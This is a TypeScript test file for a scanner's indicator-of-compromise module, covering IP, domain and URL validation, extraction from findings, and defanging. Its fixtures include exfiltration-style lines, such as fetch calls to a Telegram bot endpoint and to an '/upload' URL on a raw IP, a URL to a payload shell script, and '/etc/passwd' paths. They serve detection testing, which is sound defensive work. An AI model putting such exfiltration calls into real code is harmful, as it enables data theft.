import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Finding } from '../../../src/engine/analysis/types';
import { defang, extractIocs, isIpOrCidr, publicIp, reportableDomain, reportableUrl } from '../../../src/engine/report/iocs';

function finding(indicators: Finding['indicators'], extra: Partial<Finding> = {}): Finding {
  return { rule: 'oob-host', kind: 'threat', category: 'exfil', severity: 'high', message: 'm', file: 'index.js', line: 1, indicators, ...extra };
}

test('iocs: public addresses pass; private, reserved, documentation and mapped ones do not', () => {
  for (const ip of ['185.62.57.14', '45.9.148.108', '8.8.4.4', '2a01:4f8:c17:1234::1']) assert.equal(publicIp(ip), ip, ip);
  assert.equal(publicIp('2A01:4F8::1'), '2a01:4f8::1');
  for (const ip of ['10.1.2.3', '172.16.0.9', '192.168.1.1', '127.0.0.1', '169.254.169.254', '100.64.0.1', '0.0.0.0', '192.0.2.10', '198.51.100.7', '203.0.113.99', '198.18.0.1', '224.0.0.251', '255.255.255.255', '::1', 'fe80::1', 'fd00::1', '2001:db8::1', '::ffff:185.62.57.14', '999.1.1.1', 'not-an-ip']) {
    assert.equal(publicIp(ip), undefined, ip);
  }
});

test('iocs: domains must be real public names, not reserved or test ones', () => {
  assert.equal(reportableDomain('Telemetry-Node-CDN.com.'), 'telemetry-node-cdn.com');
  assert.equal(reportableDomain('xn--80ak6aa92e.com'), 'xn--80ak6aa92e.com');
  for (const d of ['localhost', 'c2.example.invalid', 'x.test', 'foo.example', 'example.com', 'api.example.org', 'printer.local', 'router.home.arpa', 'intranet', '185.62.57.14', 'bad_host.com', '-lead.com', 'a..b.com', 'x.123']) {
    assert.equal(reportableDomain(d), undefined, d);
  }
});

test('iocs: URLs are normalised; benign hosts and bare shared-host roots are dropped', () => {
  assert.equal(reportableUrl('HTTPS://Telemetry-Node-CDN.com:443/c?x=1'), 'https://telemetry-node-cdn.com/c?x=1');
  assert.equal(reportableUrl('https://raw.githubusercontent.com/evil-user/payloads/main/x.sh'), 'https://raw.githubusercontent.com/evil-user/payloads/main/x.sh');
  for (const u of ['https://registry.npmjs.org/left-pad', 'https://www.npmjs.com/package/x', 'https://github.com/', 'https://c2.example.invalid/x', 'http://192.0.2.1/x', 'file:///etc/passwd', 'javascript:alert(1)', 'https://x.com/a b', 'not a url']) {
    assert.equal(reportableUrl(u), undefined, u);
  }
});

test('extractIocs: from indicators and threat excerpts, validated, deduplicated and sorted', () => {
  const iocs = extractIocs([
    finding([{ type: 'domain', value: 'Telemetry-Node-CDN.com' }, { type: 'domain', value: 'telemetry-node-cdn.com' }, { type: 'domain', value: '185.62.57.14' }, { type: 'domain', value: 'github.com' }, { type: 'domain', value: 'registry.npmjs.org' }]),
    finding([{ type: 'ip', value: '45.9.148.108' }, { type: 'ip', value: '10.0.0.8' }, { type: 'ip', value: '203.0.113.5' }, { type: 'url', value: 'https://c2.example.invalid/x' }, { type: 'path', value: '/etc/passwd' }]),
    finding(undefined, { excerpt: "await fetch('https://api.telegram.org/bot123:AAE/sendMessage'), fetch(\"http://45.9.148.108:1224/upload\")." }),
    // Capabilities' excerpts do not make IOCs: only a threat names a destination.
    finding(undefined, { kind: 'capability', category: 'network', excerpt: "fetch('https://cdn.harmless-analytics.io/v1')" }),
  ]);
  assert.deepEqual(iocs, {
    domains: ['telemetry-node-cdn.com'],
    ips: ['185.62.57.14', '45.9.148.108'],
    urls: ['http://45.9.148.108:1224/upload', 'https://api.telegram.org/bot123:AAE/sendMessage'],
  });
  assert.deepEqual(extractIocs([finding([{ type: 'domain', value: 'x.invalid' }, { type: 'ip', value: '198.51.100.1' }])]), {});
});

test('iocs: CIDR check and defanging', () => {
  assert.ok(isIpOrCidr('185.62.57.0/24'));
  assert.ok(isIpOrCidr('2a01:4f8::/32'));
  assert.ok(!isIpOrCidr('185.62.57.0/33'));
  assert.ok(!isIpOrCidr('evil.com'));
  assert.equal(defang('https://evil-cdn.com/a.b'), 'hxxps[://]evil-cdn[.]com/a[.]b');
  assert.equal(defang('45.9.148.108'), '45[.]9[.]148[.]108');
});
